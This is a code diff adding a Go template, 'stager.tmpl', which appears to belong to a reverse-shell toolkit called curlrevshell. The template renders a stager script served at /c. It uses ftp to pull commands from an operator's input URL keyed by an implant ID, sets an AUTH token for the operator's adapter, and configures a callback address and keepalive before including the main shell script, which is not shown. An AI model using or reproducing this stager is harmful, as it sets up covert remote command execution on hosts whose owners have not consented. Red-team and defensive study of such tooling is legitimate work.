@@ -0,0 +1,37 @@
+{{- /*
+     * stager.tmpl
+     * Script served by the adapter at /c
+     * By J. Stuart McMurray
+     * Created 20261018
+     * Last Modified 20261018
+     *
+     * Generated from stager.tmpl.m4 and src/script.tmpl.m4 with go generate.
+     * Edit those, not this.
+     */ -}}
+
+{{/* This is the same script as crs.tmpl's, but with everything it needs
+     known when it's rendered. */ -}}
+
+{{/* ftp is a subtemplate with the common ftp(1) args used for everything. */}}
+{{- define "ftp" -}}
+{{.FTP}}
+{{- end -}}
+
+{{/* auth sets AUTH, which authenticates our ID to the adapter. */}}
+{{- define "auth" -}}
+AUTH={{.Auth}}
+{{- end -}}
+
+{{/* input is the command which gets our input from curlrevshell. */}}
+{{- define "input" -}}
+{{template "ftp" .}} "{{.InputURL}}/{{.ID}}"
+{{- end -}}
+
+m4_define(m4_oqa_cbaddr, `{{.Addr}}')m4_dnl
+m4_define(m4_oqa_keepalive, `{{.KeepAliveSecs}}')m4_dnl
+m4_define(m4_oqa_batch_wait, `{{.BatchWaitSecs}}')m4_dnl
+m4_define(m4_oqa_compress, `{{if .Compress}}yes{{end}}')m4_dnl
+m4_define(m4_oqa_input, `{{if not .InputURL}}yes{{end}}')m4_dnl
+m4_include(src/script.tmpl.m4)m4_dnl
+
+{{template "script" .}}